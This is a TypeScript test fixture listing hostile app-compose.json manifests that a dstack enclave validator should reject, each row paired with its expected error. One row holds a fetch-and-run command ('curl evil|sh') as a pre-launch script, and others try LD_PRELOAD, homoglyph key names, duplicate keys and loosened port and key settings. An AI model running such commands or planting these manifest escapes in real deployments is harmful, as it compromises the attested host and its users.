/** The manifest of the committed compose file, and texts of app-compose.json that would hand something to the host. */

import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { appComposeText, canonicalJson } from '../../../protocol/tdx/venue_manifest'
import { fillIn } from '../../../tools/manifest/main'
import type { Row } from './hostile_compose'

const KEY = 'So11111111111111111111111111111111111111112'
export const COMMITTED_COMPOSE = readFileSync(join(import.meta.dir, '../../../compose.yaml'), 'utf8')
export const DIGEST = `sha256:${'ab'.repeat(32)}`
export const OPERATOR_VALUES = [
  `image=registry.example/tacit@${DIGEST}`,
  'SOLANA_RPC_URL=https://one.example,https://two.example/path',
  `TACIT_PROGRAM_ID=${KEY}`,
  `TACIT_OPERATOR_KEY=${KEY}`,
  `TACIT_FEE_KEY=${KEY}`,
]
export const FILLED_COMPOSE = fillIn(COMMITTED_COMPOSE, OPERATOR_VALUES)

/** The manifest of a compose file, in canonical form even where an attack adds a key. */
export function manifestOf(docker_compose_file: string, change: Record<string, unknown> = {}): string {
  const text = appComposeText({
    docker_compose_file,
    name: 'tacit',
    key_provider: 'kms',
    allowed_envs: ['TACIT_FEE_ANCHOR'],
    secure_time: false,
  })
  return canonicalJson({ ...JSON.parse(text), ...change })
}

export const OWN = manifestOf(FILLED_COMPOSE)
export const manifest = (change: Record<string, unknown>) => manifestOf(FILLED_COMPOSE, change)
const without = (name: string) => {
  const { [name]: _left_out, ...rest } = JSON.parse(OWN)
  return JSON.stringify(rest)
}
const FORM = 'must be JSON with sorted keys'
export const HOSTILE_MANIFESTS: readonly Row[] = [
  [
    'a script before launch',
    manifest({ pre_launch_script: 'curl evil|sh' }),
    'pre_launch_script: not an allowed key',
  ],
  ['an empty script', manifest({ pre_launch_script: '' }), 'pre_launch_script: not an allowed key'],
  ['a script at init', manifest({ init_script: ['true'] }), 'init_script: not an allowed key'],
  ['a script as runner', manifest({ runner: 'bash', bash_script: 'x' }), 'runner: must be "docker-compose"'],
  [
    'another runner of containers',
    manifest({ runner: 'nerdctl-compose', snapshotter: 'stargz' }),
    'snapshotter: not',
  ],
  ['a script in another case', manifest({ pre_launch_Script: 'x' }), 'pre_launch_Script: not an allowed key'],
  [
    'a script under a name of other letters',
    manifest({ 'pre_launch_scr\u0456pt': 'x' }),
    String.raw`"pre_launch_scr\u0456pt": not an allowed key`,
  ],
  ['a registry', manifest({ docker_config: { registry: 'evil' } }), 'docker_config: not an allowed key'],
  ['features', manifest({ features: ['kms'] }), 'features: not an allowed key'],
  ['swap', manifest({ swap_size: '8G' }), 'swap_size: not an allowed key'],
  [
    'volumes beside the image',
    manifest({ verity_volumes: [{ source: 'x', target: '/' }] }),
    'verity_volumes: not',
  ],
  [
    'the former name of the gateway',
    manifest({ tproxy_enabled: true }),
    'tproxy_enabled: not an allowed key',
  ],
  ['values of the host', manifest({ user_config: 'x' }), 'user_config: not an allowed key'],
  ['a prototype', OWN.replace('{"allowed', '{"__proto__":{},"allowed'), '__proto__: not an allowed key'],
  ['public logs', manifest({ public_logs: true }), 'public_logs: must be false'],
  ['logs left to a default', without('public_logs'), 'public_logs: missing'],
  ['public system facts', manifest({ public_sysinfo: true }), 'public_sysinfo: must be false'],
  ['a hidden manifest', manifest({ public_tcbinfo: false }), 'public_tcbinfo: must be true'],
  [
    'new keys at every start',
    manifest({ key_provider: 'none', kms_enabled: false }),
    'key_provider: must be "kms"',
  ],
  [
    'keys of the host',
    manifest({ local_key_provider_enabled: true }),
    'local_key_provider_enabled: must be false',
  ],
  ['keys left to a default', without('key_provider'), 'key_provider: missing'],
  ['no instance id', manifest({ no_instance_id: true }), 'no_instance_id: must be false'],
  [
    'a malformed KMS root',
    manifest({ key_provider_id: 'zz' }),
    'key_provider_id: must be the DER public key',
  ],
  ['a file system without checksums', manifest({ storage_fs: 'ext4' }), 'storage_fs: must be "zfs"'],
  ['open ports', manifest({ port_policy: { ports: [], restrict_mode: false } }), 'port_policy.restrict_mode'],
  [
    "the agent's dashboard",
    manifest({
      port_policy: {
        ports: [
          { port: 8090, pp: false },
          { port: 8444, pp: false },
        ],
        restrict_mode: true,
      },
    }),
    'port_policy.ports[0].port',
  ],
  [
    'the proxy protocol',
    manifest({
      port_policy: {
        ports: [
          { port: 443, pp: true },
          { port: 8444, pp: false },
        ],
        restrict_mode: true,
      },
    }),
    'port_policy.ports[0].pp',
  ],
  [
    'the proxy protocol for the operator',
    manifest({
      port_policy: {
        ports: [
          { port: 443, pp: false },
          { port: 8444, pp: true },
        ],
        restrict_mode: true,
      },
    }),
    'port_policy.ports[1].pp',
  ],
  ['events of version 2', manifest({ event_log_version: 2 }), 'event_log_version: must be 1'],
  [
    'a launch token',
    manifest({ requirements: { health_check: true, launch_token_hash: 'x' } }),
    'requirements.launch_token_hash',
  ],
  [
    'a file that says it is healthy',
    manifest({ requirements: { health_check: true, health_status_file: '/x' } }),
    'requirements.health_status_file',
  ],
  ['a guest of OS 0.5', manifest({ manifest_version: 2 }), 'manifest_version: must be "3"'],
  ['a version as a number', manifest({ manifest_version: 3 }), 'manifest_version: must be "3"'],
  ['no requirements', without('requirements'), 'requirements: missing'],
  ['a name with other letters', manifest({ name: 't\u0430cit' }), 'name: must be lowercase'],
  ['a name with a line end', manifest({ name: 'tacit\n' }), 'name: must be lowercase'],
  [
    'names of compose itself',
    manifest({ allowed_envs: ['COMPOSE_FILE', 'TACIT_FEE_ANCHOR'] }),
    'allowed_envs[0]: must be',
  ],
  ['a loader variable', manifest({ allowed_envs: ['LD_PRELOAD'] }), 'allowed_envs[0]: must be'],
  ['names that are no list', manifest({ allowed_envs: 'TACIT_FEE_ANCHOR' }), 'allowed_envs: must be a list'],
  [
    'a name that nothing takes',
    manifest({ allowed_envs: ['TACIT_ACME_DNS_SECRET', 'TACIT_FEE_ANCHOR'] }),
    'allowed_envs: must be ["TACIT_FEE_ANCHOR"]',
  ],
  [
    'another name than the one that is taken',
    manifest({ allowed_envs: ['TACIT_ACME_DNS_SECRET'] }),
    'allowed_envs: must be ["TACIT_FEE_ANCHOR"]',
  ],
  [
    'a name twice',
    manifest({ allowed_envs: ['TACIT_FEE_ANCHOR', 'TACIT_FEE_ANCHOR'] }),
    'allowed_envs: must be ["TACIT_FEE_ANCHOR"]',
  ],
  [
    'a name in a list in a list',
    manifest({ allowed_envs: [['TACIT_FEE_ANCHOR']] }),
    'allowed_envs[0]: must be',
  ],
  ['no compose file', without('docker_compose_file'), 'docker_compose_file: missing'],
  [
    'a compose file that is no text',
    manifest({ docker_compose_file: {} }),
    'docker_compose_file: must be a text',
  ],
  ['a key twice, the first for dstack', OWN.replace('"runner":', '"runner":"bash","runner":'), FORM],
  [
    'a key twice, written in another way',
    OWN.replace('"public_logs":', String.raw`"public_l\u006fgs":true,"public_logs":`),
    FORM,
  ],
  ['a key twice, inside', OWN.replace('"restrict_mode":', '"restrict_mode":false,"restrict_mode":'), FORM],
  [
    'keys out of order',
    OWN.replace('{"allowed_envs":["TACIT_FEE_ANCHOR"],', '{').replace(
      /}$/,
      ',"allowed_envs":["TACIT_FEE_ANCHOR"]}',
    ),
    FORM,
  ],
  ['an escaped character', OWN.replace('"docker-compose"', String.raw`"docker\u002dcompose"`), FORM],
  ['a number written in another way', OWN.replace('"port":443', '"port":443.0'), FORM],
  ['white space', `${OWN}\n`, FORM],
  ['an indented text', JSON.stringify(JSON.parse(OWN), null, 4), FORM],
  ['a byte order mark', `\ufeff${OWN}`, 'it is not JSON'],
  ['a cut text', OWN.slice(0, -1), 'it is not JSON'],
  ['no text', '', 'it is not JSON'],
  ['a list', '[]', 'must be a mapping'],
  ['nothing', 'null', 'must be a mapping'],
  ['a text that is nested too deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, 'must be a mapping'],
  [
    'a text that dstack would not take',
    manifest({ name: 'a'.repeat(256 * 1024) }),
    'it is longer than 256 KiB',
  ],
]
